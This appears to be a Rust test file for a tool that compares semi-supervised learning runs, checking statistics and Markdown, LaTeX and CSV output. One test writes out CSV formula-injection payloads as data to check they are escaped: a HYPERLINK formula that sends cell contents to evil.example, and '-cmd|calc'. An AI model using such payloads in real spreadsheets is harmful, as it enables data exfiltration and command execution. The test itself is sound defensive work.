//! Settings side by side: grouping, pairing, statistics, and the three ways to write them.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::fs;
use std::process::Command;

use calmix_core::matrix::Matrix;
use calmix_metrics::calibrator::temperature::Temperature;
use calmix_metrics::metrics::Metrics;
use calmix_metrics::predictions::EvalSet;
use calmix_report::compare::{ComparedRun, Comparison, Measure, PairOutcome};
use calmix_run::result::HeadName;
use calmix_testkit::tier;

/// A run of FixMatch on CIFAR-10 with 4 labels, and `more` settings.
fn run(seed: u64, ece: f64, error: f64, more: &[(&str, &str)]) -> ComparedRun {
    let settings = [
        ("dataset.source", "cifar10"),
        ("labels.keep", "per-class"),
        ("labels.count", "4"),
        ("method.base", "fixmatch"),
        ("method.mixup.pairing", "none"),
        ("method.smoothing", "none"),
        ("network.weights", ""),
    ];
    let nothing = Metrics::of(Matrix::new(&[], 0, 3).unwrap(), &[], Temperature::IDENTITY).unwrap();
    ComparedRun {
        name: format!("{more:?}-{seed}"),
        settings: settings.iter().chain(more).map(|(key, value)| ((*key).into(), (*value).into())).collect(),
        fingerprint: "160e6b32d3bb".to_owned(),
        seeds: (seed, seed),
        is_in_paper: false,
        chosen_on_test: false,
        on: EvalSet::Test,
        samples: 10_000,
        head: None,
        metrics: Metrics { error, ece_15: ece, ece_10: ece - 0.001, ..nothing },
        calibrated: None,
    }
}

const MIXED: &[(&str, &str)] = &[("method.mixup.pairing", "calibratemix")];

/// Two methods, four seeds.
fn two_methods() -> Vec<ComparedRun> {
    let plain = [(0.0833, 0.2310), (0.1012, 0.2275), (0.0921, 0.2402), (0.0874, 0.2333)];
    let mixed = [(0.0612, 0.2251), (0.0733, 0.2290), (0.0698, 0.2315), (0.0641, 0.2298)];
    let runs = |metrics: [(f64, f64); 4], more: &'static [(&str, &str)]| {
        metrics.into_iter().zip(1..).map(move |((ece, error), seed)| run(seed, ece, error, more))
    };
    // In no order at all.
    let mut runs: Vec<_> = runs(mixed, MIXED).chain(runs(plain, &[])).collect();
    runs.swap(0, 5);
    runs.swap(2, 7);
    runs
}

/// scipy 1.17.1: the paired t-test of `scipy.stats` and its `confidence_interval`; statsmodels 0.15.0: `multipletests(method="holm")`.
#[test]
fn two_methods_agree_with_scipy_and_statsmodels() {
    let comparison = Comparison::of(two_methods(), None).unwrap();
    assert_eq!(comparison.rows, ["FixMatch", "FixMatch + CalibrateMix"]);
    assert_eq!(comparison.tests, 2);
    let expected = [
        [
            -0.0239,
            -0.028_224_693_563_422_23,
            -0.019_575_306_436_577_77,
            0.000_400_708_227_045_913_97,
            0.000_801_416_454_091_827_9,
        ],
        [
            -0.00415,
            -0.011_031_618_555_435_926,
            0.002_731_618_555_435_925_4,
            0.150_757_165_346_206_37,
            0.150_757_165_346_206_37,
        ],
    ];
    for (seen, expected) in comparison.differences.iter().zip(expected) {
        assert_eq!((seen.row, seen.against, seen.pairs), (1, 0, 4));
        let interval = seen.interval.unwrap();
        let numbers =
            [seen.mean.unwrap(), interval.low, interval.high, seen.p_value.unwrap(), seen.p_holm.unwrap()];
        for (number, expected) in numbers.iter().zip(expected) {
            // A handful of roundings of numbers below one.
            assert!((number - expected).abs() < 1e-14, "{number} {expected}");
        }
    }
    let assessments: Vec<_> =
        comparison.differences.iter().map(|seen| (seen.measure, seen.outcome)).collect();
    assert_eq!(
        assessments,
        [(Measure::Ece, PairOutcome::Lower), (Measure::Error, PairOutcome::NotSignificant)]
    );
}

/// A head of the labels alone is a method of its own, in the same runs; metrics that all runs have are in the tables.
#[test]
fn heads_and_calibrated_metrics_have_rows() {
    let mut runs = Vec::new();
    for seed in 1..4 {
        for (head, nll) in [(HeadName::Recipe, 0.5), (HeadName::LabelsAlone, 0.75)] {
            let mut run = run(seed, 0.1, 0.2, &[]);
            run.head = Some(head);
            run.metrics.nll = nll;
            run.metrics.debiased_squared_error = Some(0.0004);
            run.calibrated = Some(Metrics { nll: nll - 0.25, ..run.metrics });
            runs.push(run);
        }
    }
    let comparison = Comparison::of(runs, None).unwrap();
    assert_eq!(comparison.rows, ["FixMatch", "FixMatch, labels alone"]);
    let cell = &comparison.cells[1];
    assert_eq!(cell.head, Some(HeadName::LabelsAlone));
    assert_eq!(cell.measures[&Measure::Nll].mean, 0.75);
    assert_eq!(cell.measures[&Measure::CalibratedNll].mean, 0.5);
    // Nothing but ECE and error is tested.
    assert_eq!(comparison.differences.len(), 2);
    let csv = comparison.to_csv();
    for line in [
        "\nCIFAR-10,4,test,FixMatch,recipe,NLL,0.5,",
        "\nCIFAR-10,4,test,\"FixMatch, labels alone\",labels-alone,\"NLL, calibrated\",0.5,",
        ",recipe,debiased squared CE,4,",
    ] {
        assert!(csv.contains(line), "{csv}");
    }
    assert!(comparison.to_markdown().contains("0.750 ± 0.000 (3)"), "{}", comparison.to_markdown());
}

/// The balanced error has a row if it says something else than the error; runs of earlier versions do not have it.
#[test]
fn uneven_classes_have_balanced_measures() {
    let written = |balanced: [Option<f64>; 2]| {
        let methods = [(&[][..], balanced[0], 0.75), (MIXED, balanced[1], 0.875)];
        let runs = methods.into_iter().flat_map(|(more, balanced_error, macro_f1)| {
            (1..4).map(move |seed| {
                let mut run = run(seed, 0.1, 0.2, more);
                run.metrics.balanced_error = balanced_error;
                run.metrics.macro_f1 = balanced_error.map(|_| macro_f1);
                run
            })
        });
        let comparison = Comparison::of(runs.collect(), None).unwrap();
        assert_eq!(comparison.differences.len(), 2);
        (comparison.to_markdown(), comparison.to_csv())
    };
    let (markdown, csv) = written([Some(0.3), Some(0.25)]);
    assert!(
        markdown.contains("**25.00 ± 0.00 (3)**") && markdown.contains("**87.50 ± 0.00 (3)**"),
        "{markdown}"
    );
    assert!(csv.contains("FixMatch,,balanced error,30") && csv.contains("FixMatch,,macro F1,75"), "{csv}");
    let (even, csv) = written([Some(0.2), Some(0.2)]);
    assert!(!even.contains("balanced") && csv.contains("balanced error"), "{even}");
    let (earlier, csv) = written([None, Some(0.25)]);
    assert!(earlier.contains("25.00 ± 0.00 (3)") && !csv.contains("FixMatch,,balanced error"), "{earlier}");
}

/// Weights bring their normalisation and their hash along: their name is enough, unless it is not.
#[test]
fn derived_settings_are_not_in_names() {
    let weights = |name: &'static str, mean: &'static str| {
        [("network.weights", name), ("dataset.mean", mean), ("network.weights_hash", name)]
    };
    let runs = |second: [(&'static str, &'static str); 3]| {
        [weights("lite0", "[0.5]"), second].map(|more| run(1, 0.1, 0.2, &more)).to_vec()
    };
    let comparison = Comparison::of(runs(weights("resnet50", "[0.4]")), None).unwrap();
    assert_eq!(
        comparison.rows,
        ["FixMatch, network.weights = lite0", "FixMatch, network.weights = resnet50"]
    );
    // The same weights with another normalisation are two settings.
    let mut three = runs(weights("resnet50", "[0.4]"));
    three.push(run(1, 0.1, 0.2, &weights("lite0", "[0.3]")));
    let comparison = Comparison::of(three, None).unwrap();
    assert!(comparison.rows.iter().any(|row| row.contains("dataset.mean = [0.3]")), "{:?}", comparison.rows);
}

#[test]
fn the_best_of_a_column_is_bold() {
    let comparison = Comparison::of(two_methods(), None).unwrap();
    let markdown = comparison.to_markdown();
    assert_eq!(markdown.matches("**").count(), 4, "{markdown}");
    assert!(markdown.contains("**6.71 ± ") && markdown.contains("**22.88 ± "), "{markdown}");
    assert!(
        markdown.contains(" minus FixMatch, in points, on CIFAR-10, 4:\n") && markdown.contains(" Result |"),
        "{markdown}"
    );
    assert!(markdown.lines().all(|line| line.chars().count() <= 100), "{markdown}");
    assert_eq!(comparison.to_latex().matches("\\boldmath").count(), 2, "{}", comparison.to_latex());
}

/// Settings that differ in many keys have long names, and many datasets many columns.
#[test]
fn markdown_of_unlike_runs_fits_100_columns() {
    let values = ["one", "two", "three", "four", "five"];
    let mut runs = Vec::new();
    for (seed, value) in values.into_iter().enumerate() {
        let keys =
            ["augment.size", "network.name", "optimiser.lr", "train.batch", "train.step", "train.ratio"];
        let more: Vec<_> = keys.into_iter().map(|key| (key, value)).collect();
        for source in ["cifar10", "svhn", "stl10", "imagenet"] {
            let labels = [("dataset.source", source), ("labels.count", "4"), ("labels.validation", value)];
            runs.push(run(seed as u64, 0.1, 0.2, &[&more[..], &labels[..2]].concat()));
            runs.push(run(seed as u64, 0.1, 0.2, &[&more[..], &labels].concat()));
        }
    }
    let comparison = Comparison::of(runs, None).unwrap();
    let markdown = comparison.to_markdown();
    assert!(comparison.rows.iter().any(|row| row.chars().count() > 100), "{:?}", comparison.rows);
    for line in markdown.lines() {
        assert!(line.chars().count() <= 100, "{line}\n{markdown}");
    }
    // Every key of every setting is below the tables.
    let text = markdown.split_whitespace().collect::<Vec<_>>().join(" ");
    for row in &comparison.rows {
        assert!(text.contains(&format!(": {row}")), "{row}\n{markdown}");
    }
}

#[test]
fn the_order_of_runs_does_not_matter() {
    let written = |runs| {
        let comparison = Comparison::of(runs, None).unwrap();
        [
            comparison.to_markdown(),
            comparison.to_latex(),
            comparison.to_csv(),
            serde_json::to_string(&comparison).unwrap(),
        ]
    };
    let reversed = two_methods().into_iter().rev().collect();
    assert_eq!(written(two_methods()), written(reversed));
}

#[test]
fn too_few_runs_are_not_tested() {
    let runs = |seeds: std::ops::Range<u64>| -> Vec<_> {
        seeds
            .flat_map(|seed| [run(seed, 0.1, 0.2, &[]), run(seed, 0.05 + 0.001 * seed as f64, 0.2, MIXED)])
            .collect()
    };
    let comparison = Comparison::of(runs(1..3), None).unwrap();
    assert_eq!(comparison.tests, 0);
    for seen in &comparison.differences {
        assert_eq!((seen.pairs, seen.interval, seen.outcome), (2, None, PairOutcome::TooFew));
    }
    assert!(comparison.to_markdown().contains("| too few runs |"), "{}", comparison.to_markdown());
    // Errors that are all the same scatter by nothing: no p-value of zero.
    let comparison = Comparison::of(runs(1..4), None).unwrap();
    assert_eq!(comparison.differences[1].outcome, PairOutcome::NoVariance);
    assert_eq!((comparison.tests, comparison.differences[1].p_value), (1, None));
}

#[test]
fn pairs_share_seeds_and_repeated_runs_count_once() {
    let mut runs = two_methods();
    runs.push(ComparedRun { name: "again".to_owned(), ..run(1, 0.5, 0.5, MIXED) });
    runs.push(run(9, 0.5, 0.5, MIXED));
    let comparison = Comparison::of(runs, None).unwrap();
    assert_eq!(comparison.cells[1].seeds.len(), 5);
    assert_eq!(comparison.differences[0].pairs, 4);
    assert!((comparison.differences[0].mean.unwrap() + 0.0239).abs() < 1e-14);
    assert_eq!(comparison.notes.len(), 2, "{:?}", comparison.notes);
}

/// Each method with its own base; other data in another column; a key that differs is named.
#[test]
fn settings_have_the_papers_places_and_names() {
    let mut runs = two_methods();
    let soft = ("method.base", "softmatch");
    for seed in 1..4 {
        let noise = 0.001 * (seed * seed) as f64;
        runs.push(run(seed, 0.1, 0.2, &[soft]));
        runs.push(run(seed, 0.09 + noise, 0.2 + noise, &[soft, MIXED[0]]));
        runs.push(run(seed, 0.1, 0.2, &[("labels.count", "25")]));
        runs.push(run(seed, 0.1 + noise, 0.2 - noise, &[("labels.count", "25"), ("optimiser.lr", "0.1")]));
        runs.push(run(seed, 0.1, 0.2, &[("labels.count", "400"), ("dataset.source", "svhn")]));
    }
    for run in &mut runs {
        run.settings.entry("optimiser.lr".to_owned()).or_insert_with(|| "0.03".to_owned());
    }
    let comparison = Comparison::of(runs.clone(), None).unwrap();
    assert_eq!(
        comparison.rows,
        [
            "FixMatch, optimiser.lr = 0.03",
            "FixMatch, optimiser.lr = 0.1",
            "FixMatch + CalibrateMix",
            "SoftMatch",
            "SoftMatch + CalibrateMix"
        ]
    );
    let columns: Vec<_> =
        comparison.columns.iter().map(|column| (&*column.dataset, &*column.labels)).collect();
    assert_eq!(columns, [("CIFAR-10", "4"), ("CIFAR-10", "25"), ("SVHN", "400")]);
    let compared: Vec<_> =
        comparison.differences.iter().map(|seen| (seen.column, seen.row, seen.against)).collect();
    assert_eq!(compared, [(0, 2, 0), (0, 2, 0), (0, 4, 3), (0, 4, 3), (1, 1, 0), (1, 1, 0)]);
    assert!(comparison.to_latex().contains("\\multicolumn{2}{c}{CIFAR-10} & \\multicolumn{1}{c}{SVHN}"));

    // Against a run that the user names, on the same data.
    let against = runs.iter().find(|run| run.settings["method.base"] == "softmatch").unwrap().name.clone();
    let comparison = Comparison::of(runs, Some(&against)).unwrap();
    assert!(comparison.differences.iter().all(|seen| (seen.column, seen.against) == (0, 3)));
}

#[test]
fn paper_metrics_are_beside_ours_in_its_settings() {
    let mut runs = two_methods();
    for run in &mut runs {
        run.is_in_paper = true;
    }
    let comparison = Comparison::of(runs, None).unwrap();
    let paper = comparison.cells[1].paper.unwrap();
    assert_eq!((paper.ece, paper.ece_std, paper.error), (3.24, Some(0.12), 7.13));
    // 6.71 with 15 bins, 6.61 with 10.
    assert!((comparison.cells[1].minus_paper(Measure::Ece).unwrap() - (6.61 - 3.24)).abs() < 1e-9);
    let text = comparison.to_markdown();
    assert!(text.contains("3.24 ± 0.12 |") && text.contains("+3.37 |"), "{text}");
    assert!(comparison.to_csv().contains(",3.24,0.12,3.3"), "{}", comparison.to_csv());
}

/// The words of a run come from its folder, which anyone may have made; differences are negative numbers and stay numbers.
#[test]
fn csv_guards_spreadsheet_formulas() {
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"cat\")";
    let mut runs = two_methods();
    for run in &mut runs {
        run.settings.insert("dataset.source".to_owned(), formula.to_owned());
        run.settings.insert("labels.keep".to_owned(), "@SUM(A1)".to_owned());
        if run.settings["method.mixup.pairing"] == "calibratemix" {
            run.settings.insert("method.base".to_owned(), "-cmd|calc".to_owned());
        }
    }
    let csv = Comparison::of(runs, None).unwrap().to_csv();
    let start = "\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")\",'@SUM(A1),test,";
    // Two methods; ECE, error, NLL, Brier score and the debiased error.
    assert_eq!(csv.matches(start).count(), 10, "{csv}");
    assert!(csv.contains(&format!("{start}'-cmd|calc + CalibrateMix,,ECE,")), "{csv}");
    let csv = Comparison::of(two_methods(), None).unwrap().to_csv();
    assert!(csv.contains(",FixMatch,4,-2.39"), "{csv}");
}

/// With names from outside that mean something to LaTeX or to a terminal.
#[test]
fn latex_compiles() {
    let hostile = "a_b\\{%$#&~^|\"<ä\u{1b}[2J]\n";
    let mut runs = two_methods();
    for run in &mut runs {
        run.is_in_paper = true;
    }
    for seed in 1..4 {
        runs.push(run(seed, 0.1, 0.2, &[MIXED[0], ("network.weights", hostile)]));
    }
    let latex = Comparison::of(runs, None).unwrap().to_latex();
    assert!(latex.contains("network.weights = a\\_b\\textbackslash{}"), "{latex}");
    assert!(
        latex.is_ascii() || !latex.lines().any(|line| !line.starts_with('%') && !line.is_ascii()),
        "{latex}"
    );
    let temp = tempfile::tempdir().unwrap();
    let document = format!(
        "\\documentclass{{article}}\n\\usepackage{{booktabs,multirow}}\n\\begin{{document}}\n{latex}\\end{{document}}\n"
    );
    fs::write(temp.path().join("table.tex"), document).unwrap();
    let arguments = ["-interaction=nonstopmode", "-halt-on-error", "table.tex"];
    let Ok(output) = Command::new("pdflatex").args(arguments).current_dir(temp.path()).output() else {
        return tier::skipped("there is no pdflatex; Debian's texlive-latex-extra has it and both packages");
    };
    assert!(output.status.success(), "{}\n{latex}", String::from_utf8_lossy(&output.stdout));
}
